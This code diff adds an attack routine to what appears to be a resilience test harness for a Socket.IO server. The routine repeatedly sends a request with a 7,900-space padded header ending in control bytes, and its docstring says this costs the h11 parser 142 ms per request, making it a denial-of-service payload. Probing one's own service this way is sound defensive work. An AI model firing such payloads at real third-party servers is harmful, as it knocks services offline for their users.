@@ -273,6 +273,21 @@ async def bad_http(host: str, port: int, seconds: float, _redis: str) -> dict[st
 
 
 @attack
+async def blank_headers(host: str, port: int, seconds: float, _redis: str) -> dict[str, Any]:
+    """Heads at the size bound with a header line of 7,900 blanks ending in a refused byte (142 ms each for h11)."""
+    line = b"X-Pad:" + b" " * 7900 + b"\x01\x00\r\n\r\n"
+
+    async def once() -> str:
+        raw = await Raw.open(host, port)
+        raw.writer.write(f"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: {host}\r\n".encode() + line)
+        status = (await raw.reader.readline()).split(b" ")[1:2]
+        raw.close()
+        return status[0].decode() if status else "none"
+
+    return await repeat(seconds, once)
+
+
+@attack
 async def handshake_flood(host: str, port: int, seconds: float, _redis: str) -> dict[str, Any]:
     """New Engine.IO sessions as fast as one address can open them, never CONNECTing."""
 
